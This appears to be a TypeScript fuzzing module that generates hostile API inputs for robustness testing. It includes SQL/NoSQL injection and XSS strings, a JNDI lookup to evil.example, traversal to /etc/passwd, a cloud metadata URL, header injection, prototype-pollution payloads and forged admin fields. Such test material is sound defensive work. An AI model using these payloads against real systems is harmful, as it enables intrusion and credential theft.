import type { Random } from "./random.ts";

/** Text an attacker types: injections, traversal, odd unicode. Each is valid JSON once stringified. */
export const HOSTILE_STRINGS: readonly string[] = [
  // SQL and NoSQL injection
  "' OR '1'='1",
  "' OR 1=1 --",
  "1; DROP TABLE tickets; --",
  "'); DELETE FROM users; --",
  '" OR ""="',
  "admin'--",
  "1 UNION SELECT password_hash, email FROM users --",
  "$1",
  "%s%s%s%n",
  '{"$gt": ""}',
  '{"$ne": null}',
  "$where: '1 == 1'",
  "to_tsquery('x') ||",
  "a:* & !b | (c <-> d)",
  "\\",
  "\\\\'",
  "E'\\x00'",
  // HTML and script
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  "javascript:alert(1)",
  '"><svg/onload=alert(1)>',
  "{{7*7}}<%= 7*7 %>#{7*7}",
  "\u0024{jndi:ldap://evil.example/a}",
  "[click](javascript:alert(1))",
  // paths and URLs
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "/api/auth/users",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data/",
  // prototype pollution as text
  "__proto__",
  "constructor",
  "prototype",
  "__proto__[isAdmin]",
  // unicode
  "\u202Eevil\u202C",
  "\u200F\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627",
  "🔥💥👩‍💻🏳️‍🌈",
  "Z̸̢̛̪̈́a̵̧͓̓l̶̰͊g̴̱̈o̷͙͋",
  "e\u0301\u0301\u0301\u0301\u0301",
  "\uFEFFbom",
  "\u200B\u200C\u200D\u2060",
  "\uD800",
  "\uDFFF",
  "a\uD83Db",
  "\u0000",
  "nul\u0000inside",
  "\u0001\u0002\u001F\u007F",
  "line\r\nInjected-Header: yes",
  "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
  "ＡＤＭＩＮ",
  // shapes of other values
  "",
  " ",
  "\t\n",
  "null",
  "undefined",
  "NaN",
  "-1",
  "0",
  "1e309",
  "true",
  "[]",
  "{}",
  "00000000-0000-0000-0000-000000000000",
  "ffffffff-ffff-ffff-ffff-ffffffffffff",
  "me",
  "none",
  "admin",
];

/** Lengths around the contracts' limits and past the body limit. */
const HUGE_LENGTHS = [61, 81, 101, 201, 255, 501, 2_001, 20_001, 100_000];

/** One string past any body limit, built once (a MB per request would dominate the run). */
let overLimit: string | undefined;
export function stringOverBodyLimit(bodyLimit: number): string {
  overLimit ??= "A".repeat(bodyLimit + 1024);
  return overLimit;
}

export function hostileString(random: Random): string {
  const roll = random.next();
  if (roll < 0.6) return random.pick(HOSTILE_STRINGS);
  if (roll < 0.8) return `${random.pick(HOSTILE_STRINGS)} ${random.pick(HOSTILE_STRINGS)}`;
  const length = random.pick(HUGE_LENGTHS);
  return random
    .pick(["x", "é", "🔥", "' OR 1=1 --"])
    .repeat(Math.ceil(length / 2))
    .slice(0, length);
}

/** A value of any JSON type, mostly not the one a field wants. */
export function wrongTypedValue(random: Random): unknown {
  return random.pick<() => unknown>([
    () => null,
    () => true,
    () => false,
    () => 0,
    () => -1,
    () => 1.5,
    () => 2 ** 53 + 1,
    () => -(2 ** 31),
    () => 1e308,
    () => [],
    () => [hostileString(random)],
    () => [null, 1, "a", {}],
    () => ({}),
    () => ({ $gt: "" }),
    () => ({ $ne: null, $where: "sleep(1000)" }),
    () => ({ length: 5, 0: "a" }),
    () => hostileString(random),
    () => deeplyNested(random, random.int(2, 64)),
  ])();
}

/** `[[[…]]]` or `{"a":{"a":…}}`, `depth` levels deep. */
export function deeplyNested(random: Random, depth: number): unknown {
  const asArray = random.chance(0.5);
  let value: unknown = random.chance(0.5) ? hostileString(random) : 1;
  for (let level = 0; level < depth; level++) value = asArray ? [value] : { a: value };
  return value;
}

/**
 * Keys that pollute prototypes when merged carelessly. JSON.stringify writes an own `__proto__`
 * property (defined, not assigned), which is what a hostile client sends.
 */
export function withPollutingKeys(random: Random, target: Record<string, unknown>): Record<string, unknown> {
  const copy = { ...target };
  const key = random.pick(["__proto__", "constructor", "prototype"]);
  const payload =
    key === "constructor"
      ? { prototype: { isAdmin: true, role: "admin" } }
      : { isAdmin: true, role: "admin" };
  Object.defineProperty(copy, key, { value: payload, enumerable: true, writable: true, configurable: true });
  return copy;
}

/** Fields a client might add hoping the server takes them. */
export function privilegeFields(random: Random, ids: readonly string[]): Record<string, unknown> {
  const fields: Record<string, unknown> = {
    role: "admin",
    isAdmin: true,
    createdBy: random.pick(ids),
    _id: random.pick(ids),
    id: random.pick(ids),
    userId: random.pick(ids),
    tokenVersion: 0,
    passwordHash: "$argon2id$v=19$m=19456,t=2,p=1$forged",
    status: "CLOSED",
    assignedTo: random.pick(ids),
    internal: true,
    helpfulNotes: "planted by the client",
  };
  const picked = Object.entries(fields).filter(() => random.chance(0.4));
  return Object.fromEntries(picked);
}

/** Raw request bodies that are not (or not quite) JSON. */
export function rawHostileBody(random: Random, bodyLimit: number): string | Buffer {
  return random.pick<() => string | Buffer>([
    () => "{",
    () => '{"title":',
    () => "{'a':1}",
    () => "[1,]",
    () => "nul",
    () => "undefined",
    () => '{"a":1}garbage',
    () => '{"a":1,"a":2,"email":"x@example.com","email":"y@example.com"}',
    () => '{"__proto__":{"isAdmin":true},"title":"t","description":"d"}',
    () => '{"constructor":{"prototype":{"isAdmin":true}}}',
    () => `\uFEFF{"title":"bom","description":"bom"}`,
    () => '{"n":1e999999,"m":-0,"k":0.0000000000000000000000001}',
    () => `{"n":${"9".repeat(5000)}}`,
    () => `${"[".repeat(20_000)}${"]".repeat(20_000)}`,
    () => `${'{"a":'.repeat(5_000)}1${"}".repeat(5_000)}`,
    () => Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]),
    () => Buffer.from([0xef, 0xbb, 0xbf, 0x7b, 0x7d]),
    () => Buffer.from([0x00, 0x00, 0x00, 0x7b]),
    () => `{"title":"${stringOverBodyLimit(bodyLimit)}"}`,
    () => JSON.stringify(["a", stringOverBodyLimit(bodyLimit)]),
  ])();
}

/** Content-Type headers other than plain application/json, some of them broken. */
export const HOSTILE_CONTENT_TYPES: readonly string[] = [
  "text/plain",
  "text/html",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "application/xml",
  "application/javascript",
  "application/json-patch+json",
  "application/vnd.api+json",
  "application/octet-stream",
  "application/json; charset=utf-16",
  "application/json; charset=latin1",
  "application/json;;;",
  "APPLICATION/JSON",
  "application/json, text/plain",
  "application/jsonx",
  "json",
  ";",
  "*/*",
  `application/${"x".repeat(2000)}`,
];
